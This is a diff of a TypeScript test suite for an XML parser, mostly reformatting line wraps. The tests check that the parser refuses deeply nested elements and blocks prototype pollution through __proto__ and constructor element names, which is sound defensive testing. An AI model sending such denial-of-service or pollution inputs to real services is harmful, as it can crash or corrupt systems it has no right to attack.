+    'a nonsensical maxLength (%s) does not switch the limit off',
+    (maxLength) => {
+      expect(() => parseAccountXml(ofLength(1_048_577), { maxLength })).toThrow();
+    },
+  );
 
   it('reads moderately nested elements (a field holding elements is an object, which the validators report as the wrong type)', () => {
     const read = parseAccountXml(account('<title><a><b>x</b></a></title>'));
     expect(read).toStrictEqual({ title: { a: { b: 'x' } } });
-    expect(validateAccount(read).issues.some((issue) => issue.code === 'wrong-type' && issue.path.join('.') === 'title')).toBe(true);
+    expect(
+      validateAccount(read).issues.some((issue) => issue.code === 'wrong-type' && issue.path.join('.') === 'title'),
+    ).toBe(true);
   });
 
-  it.each([1_000, 100_000])('refuses %i nested elements with XmlBodyError, quickly and without overflowing the stack', (depth) => {
-    const started = performance.now();
-    refusal(() => parseAccountXml(account(`${'<a>'.repeat(depth)}x${'</a>'.repeat(depth)}`)));
-    refusal(() => parsePageXml(page(`<charitysplits>${'<customCodes>'.repeat(depth)}${'</customCodes>'.repeat(depth)}</charitysplits>`)));
-    expect(performance.now() - started).toBeLessThan(5000);
-  });
+  it.each([1_000, 100_000])(
+    'refuses %i nested elements with XmlBodyError, quickly and without overflowing the stack',
+    (depth) => {
+      const started = performance.now();
+      refusal(() => parseAccountXml(account(`${'<a>'.repeat(depth)}x${'</a>'.repeat(depth)}`)));
+      refusal(() =>
+        parsePageXml(
+          page(`<charitysplits>${'<customCodes>'.repeat(depth)}${'</customCodes>'.repeat(depth)}</charitysplits>`),
+        ),
+      );
+      expect(performance.now() - started).toBeLessThan(5000);
+    },
+  );
 });
 
 describe('prototype pollution', () => {
@@ -600,7 +816,10 @@ describe('prototype pollution', () => {
       expect(Object.getPrototypeOf(read)).toBe(Object.prototype);
       expect(Object.getOwnPropertyNames(read)).toContain(name);
     }
-    for (const xml of [page(`<charitysplits><${name}><polluted>yes</polluted></${name}></charitysplits>`), page(`<${name}><polluted>1</polluted></${name}>`)]) {
+    for (const xml of [
+      page(`<charitysplits><${name}><polluted>yes</polluted></${name}></charitysplits>`),
+      page(`<${name}><polluted>1</polluted></${name}>`),
+    ]) {
       try {
         const read = parsePageXml(xml) as Record<string, unknown>;
         expect(Object.getPrototypeOf(read)).toBe(Object.prototype);
@@ -608,7 +827,7 @@ describe('prototype pollution', () => {
         expect(error).toBeInstanceOf(XmlBodyError);
       }
     }
-    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
+    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
     expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(before);
     expect(Object.prototype.constructor).toBe(Object);
     expect(Object.getPrototypeOf({})).toBe(Object.prototype);
@@ -617,15 +836,36 @@ describe('prototype pollution', () => {
   it('a root named __proto__ or constructor is a wrong root', () => {
     refusal(() => parseAccountXml('<__proto__><polluted>yes</polluted></__proto__>'));
     refusal(() => parsePageXml('<constructor><polluted>yes</polluted></constructor>'));
-    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
+    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
   });
 });
 
 describe('never a partial payload', () => {
   const tokens = [
-    '<fundraiserAccount>', '</fundraiserAccount>', '<fundraiserAccount/>', '<title>', '</title>', '<fundraiserCustomCode>',
-    '</fundraiserCustomCode>', 'Mr', ' ', '\n', '&amp;', '&nbsp;', '&#65;', '&', '<', '>', '"', '<!-- c -->', '<![CDATA[x]]>',
-    '<?xml version="1.0"?>', '<!DOCTYPE a>', '<a b="1">', '</a>', '<x/>',
+    '<fundraiserAccount>',
+    '</fundraiserAccount>',
+    '<fundraiserAccount/>',
+    '<title>',
+    '</title>',
+    '<fundraiserCustomCode>',
+    '</fundraiserCustomCode>',
+    'Mr',
+    ' ',
+    '\n',
+    '&amp;',
+    '&nbsp;',
+    '&#65;',
+    '&',
+    '<',
+    '>',
+    '"',
+    '<!-- c -->',
+    '<![CDATA[x]]>',
+    '<?xml version="1.0"?>',
+    '<!DOCTYPE a>',
+    '<a b="1">',
+    '</a>',
+    '<x/>',
   ];
 
   it('any string of XML-like tokens: either an XmlBodyError, or an object (never an array, a string or another error)', () => {
@@ -687,7 +927,10 @@ describe('bundles', () => {
   });
 
   it('the XML entry (src/formats/xml.ts) does carry fast-xml-parser, for the browser', async () => {
-    const xml = await script.measureBundle("export { parseAccountXml, parsePageXml, XmlBodyError } from './src/formats/xml.ts';", 'xml');
+    const xml = await script.measureBundle(
+      "export { parseAccountXml, parsePageXml, XmlBodyError } from './src/formats/xml.ts';",
+      'xml',
+    );
     expect(xml.errors).toEqual([]);
     expect(xml.nodeBuiltins).toEqual([]);
     expect(xml.inputs).toContain('src/formats/xml.ts');
